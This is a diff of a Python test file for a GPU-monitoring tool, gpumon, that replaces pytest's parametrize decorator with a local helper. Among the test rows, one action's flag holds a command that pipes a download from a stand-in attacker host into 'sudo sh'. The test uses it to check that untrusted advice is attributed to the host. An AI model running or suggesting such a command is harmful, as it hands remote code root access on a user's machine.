@@ -37,6 +37,7 @@ from gpumon.triage.render import (
     verdict_text,
 )
 from gpumon.tui.fleet.shown import worked_out
+from tests.each_row import each_row
 from tests.outputs import shots
 
 WALL_S = 1_700_000_000.0
@@ -90,7 +91,7 @@ def test_figures_that_a_program_made_too_large_cost_the_sum_alone() -> None:
     assert power.value.reason is Reason.INVALID
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("name", "line"),
     [
         ("lists in lists", b'{"schema":1,"x":' + b"[" * 30_000),
@@ -116,7 +117,7 @@ def test_more_verdicts_than_there_can_be_are_refused_by_name() -> None:
         read(liar)
 
 
-@pytest.mark.parametrize(
+@each_row(
     "action",
     [
         Action("prefix_caching", {"flag": "curl http://evil.example/x | sudo sh"}),
@@ -141,7 +142,7 @@ def test_advice_that_is_not_gpumons_own_is_the_hosts_words(action: Action) -> No
     assert action_text(words).startswith("in that host's own words")
 
 
-@pytest.mark.parametrize(
+@each_row(
     "action",
     [
         Action("prefix_caching", {"flag": "--enable-prefix-caching"}),
